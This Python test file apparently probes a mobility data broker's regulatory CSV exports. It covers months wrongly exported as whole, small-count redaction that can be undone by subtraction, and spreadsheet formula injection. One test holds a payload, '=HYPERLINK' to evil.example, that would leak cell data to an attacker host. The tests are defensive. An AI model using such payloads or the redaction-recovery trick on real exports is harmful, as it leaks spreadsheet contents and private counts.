"""The regulatory exports attacked as a hostile provider or analyst would, on hand-built
releases (no broker): a provider's text reaching a spreadsheet as a formula, months that only
look whole (unreadable earlier releases, a contract valid from mid-month), and what the MDS
small-count redaction does not protect."""

from __future__ import annotations

import csv
import json
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from broker.analysts.export import RegulatoryOptions, export
from broker.analysts.export.regulatory import write_rows
from broker.kafka.public_reader import ViewContents, WindowReport
from tests.analysts.rows import group, load_example, report

DAY = 86_400_000
MARCH = int(datetime(2026, 3, 1, tzinfo=UTC).timestamp() * 1000)
APRIL = int(datetime(2026, 4, 1, tzinfo=UTC).timestamp() * 1000)
DAYS = range(MARCH, APRIL, DAY)
OPTS = RegulatoryOptions(vehicle_type="scooter_standing")
pytestmark = pytest.mark.unit


def clear(start: int, published: int = 1) -> WindowReport:
    return report(start, published, 0, window=DAY)


def daily_od(tmp_path: Path) -> Any:
    def daily(data: dict[str, Any]) -> None:
        od = data["views"][1]
        od["window"] = od["time_bucket"] = "P1D"

    return load_example(tmp_path, "micromobility", daily)


def rows(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))[1:]


def test_undecodable_earlier_releases_do_not_stop_quiet_before(tmp_path: Path) -> None:
    """An earlier contract version (another view schema) released March 1-15: its records do
    not decode with this version's schemas, so ``read_view`` lists them in ``undecodable``,
    not in ``left_out``. ``quiet_before`` then treats March 1-15 as released and empty and
    March is exported as a whole month with only half its trips (a number, not -1)."""
    contract = daily_od(tmp_path)
    mid = MARCH + 15 * DAY
    groups = [
        group(s, {"origin_cell": "a", "destination_cell": "b"}, {"trips": 20}, window=DAY)
        for s in DAYS
        if s >= mid
    ]
    reports = [clear(s) for s in DAYS if s >= mid]
    contents = ViewContents(contract, contract.view("origin_destination"), groups, reports)
    contents.undecodable = [
        ("public.lyon-micromobility.origin_destination", 0, n) for n in range(30)
    ]
    out = tmp_path / "r.csv"
    export(contents, out, "mds-reports", regulatory=OPTS)
    meta = json.loads((tmp_path / "r.csv.meta.json").read_text())
    # What the docs promise: "unless ... read_view left anything out (an earlier contract
    # version may have released them)": March should be left out.
    assert meta["months_left_out"] == ["2026-03"], (rows(out), meta["months"])


def test_the_mds_small_count_redaction_is_no_protection_beyond_the_views_k(tmp_path: Path) -> None:
    """Two mds-reports files of one view, --geography origin_cell and destination_cell: the
    month's total is the same in both, so a -1 (fewer than 10) origin row is the destination
    total minus the other origins. (Every number is also on the public topic: the -1 is the
    MDS convention, not the view's k; this only shows it is not a protection.)"""
    contract = daily_od(tmp_path)
    groups = [
        group(MARCH, {"origin_cell": "a", "destination_cell": "x"}, {"trips": 25}, window=DAY),
        group(MARCH, {"origin_cell": "c", "destination_cell": "x"}, {"trips": 4}, window=DAY),
    ]
    contents = ViewContents(
        contract, contract.view("origin_destination"), groups, [clear(s, 2) for s in DAYS]
    )
    by_origin, by_dest = tmp_path / "o.csv", tmp_path / "d.csv"
    export(contents, by_origin, "mds-reports", regulatory=OPTS)
    export(
        contents,
        by_dest,
        "mds-reports",
        regulatory=RegulatoryOptions(geography="destination_cell", vehicle_type="scooter_standing"),
    )
    origin = {r[4]: int(r[6]) for r in rows(by_origin)}
    dest = {r[4]: int(r[6]) for r in rows(by_dest)}
    assert origin == {"a": 25, "c": -1}
    recovered = dest["x"] - origin["a"]
    assert recovered == 4  # the redacted row, recovered exactly


def test_a_month_the_contract_covers_only_in_part_is_not_a_whole_month(tmp_path: Path) -> None:
    """The contract is valid from March 15 (events before are refused, the worker releases
    nothing before): quiet_before counts March 1-14 as released and empty, and the MDS file
    has a P1M row for March with half a month of trips, which the spec reads as the month's."""

    def mid_march(data: dict[str, Any]) -> None:
        data["validity"]["start"] = "2026-03-15T00:00:00Z"
        od = data["views"][1]
        od["window"] = od["time_bucket"] = "P1D"

    contract = load_example(tmp_path, "micromobility", mid_march)
    start = MARCH + 14 * DAY
    groups = [
        group(s, {"origin_cell": "a", "destination_cell": "b"}, {"trips": 20}, window=DAY)
        for s in DAYS
        if s >= start
    ]
    contents = ViewContents(
        contract,
        contract.view("origin_destination"),
        groups,
        [clear(s) for s in DAYS if s >= start],
    )
    out = tmp_path / "r.csv"
    export(contents, out, "mds-reports", regulatory=OPTS)
    meta = json.loads((tmp_path / "r.csv.meta.json").read_text())
    assert meta["months_left_out"] == ["2026-03"], rows(out)


def test_a_provider_vehicle_type_is_no_formula_and_no_mds_row(tmp_path: Path) -> None:
    """A hostile provider sends vehicle_type '=HYPERLINK(...)' on >= k vehicles; a view grouped
    by the vehicle_type field publishes it. It is not an MDS vehicle type: no row, counted."""

    def by_type(data: dict[str, Any]) -> None:
        od = data["views"][1]
        od["window"] = od["time_bucket"] = "P1D"
        od["group_by"] = [
            od["group_by"][0],
            {"type": "field", "name": "vehicle_type", "field": "vehicle_type"},
        ]

    contract = load_example(tmp_path, "micromobility", by_type)
    evil = '=HYPERLINK("http://evil.example/?"&A1,"scooter")'
    groups = [group(MARCH, {"origin_cell": "a", "vehicle_type": evil}, {"trips": 25}, window=DAY)]
    contents = ViewContents(
        contract, contract.view("origin_destination"), groups, [clear(s) for s in DAYS]
    )
    out = tmp_path / "r.csv"
    export(contents, out, "mds-reports")
    cells = [r[5] for r in rows(out)]
    assert not any(c.startswith("=") for c in cells), cells
    assert cells == []
    meta = json.loads((tmp_path / "r.csv.meta.json").read_text())
    assert meta["pairs_left_out_unknown_vehicle_type"] == 1


def test_regulatory_text_cells_are_never_formulas(tmp_path: Path) -> None:
    out = tmp_path / "t.csv"
    write_rows(out, ["a", "b", "c"], [("=1+1", "+A1", -1), ("@SUM(A1)", "zone", None)])
    assert rows(out) == [["'=1+1", "'+A1", "-1"], ["'@SUM(A1)", "zone", ""]]
